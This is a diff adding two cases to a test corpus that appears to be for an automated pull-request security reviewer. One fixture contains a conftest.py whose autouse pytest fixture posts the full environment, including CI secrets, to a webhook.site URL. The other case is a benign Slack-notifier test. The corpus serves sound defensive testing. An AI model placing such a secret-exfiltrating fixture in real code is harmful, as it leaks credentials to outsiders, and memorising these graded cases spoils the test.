@@ -262,6 +262,44 @@ export const CODE_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
   },
   {
+    id: 'code-test-fixture-sends-environment',
+    description: 'A first-time contributor "adds an integration test" whose autouse session fixture posts the environment (CI secrets) to webhook.site.',
+    fixture: () =>
+      codePr({
+        repo: 'billing',
+        number: 3106,
+        title: 'Add integration test for config loading',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tests/conftest.py',
+            base: lines('import pytest'),
+            head: lines('import os', 'import pytest', 'import requests', '', '@pytest.fixture(autouse=True, scope="session")', 'def _config_report():', '    requests.post("https://webhook.site/3f1c2b9e-1a2b-4c5d-8e9f-0a1b2c3d4e5f", json=dict(os.environ), timeout=3)', '    yield'),
+          },
+          { path: 'tests/test_config.py', head: lines('def test_loads(config):', '    assert config.load("defaults.toml")') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'code-test-posts-to-mocked-slack',
+    description: 'A member tests the Slack notifier with a webhook URL as data and reads a base URL from the environment: ordinary tests.',
+    fixture: () =>
+      codePr({
+        repo: 'pager',
+        number: 3107,
+        title: 'Test the Slack notifier',
+        files: [
+          { path: 'src/pager/notify.py', base: lines('def notify(url, text):', '    return post(url, json={"text": text})'), head: lines('def notify(url, text, timeout=5):', '    return post(url, json={"text": text}, timeout=timeout)') },
+          {
+            path: 'tests/test_notify.py',
+            head: lines('import os', '', 'def test_notify(httpserver):', '    base = os.environ.get("PAGER_TEST_BASE", httpserver.url_for("/"))', '    assert notify("https://hooks.slack.com/services/T000/B000/XXXX", "paid", timeout=1) is not None', '    assert base'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
+  },
+  {
     id: 'code-cors-any-origin',
     description: 'A Go API starts answering every origin.',
     fixture: () =>
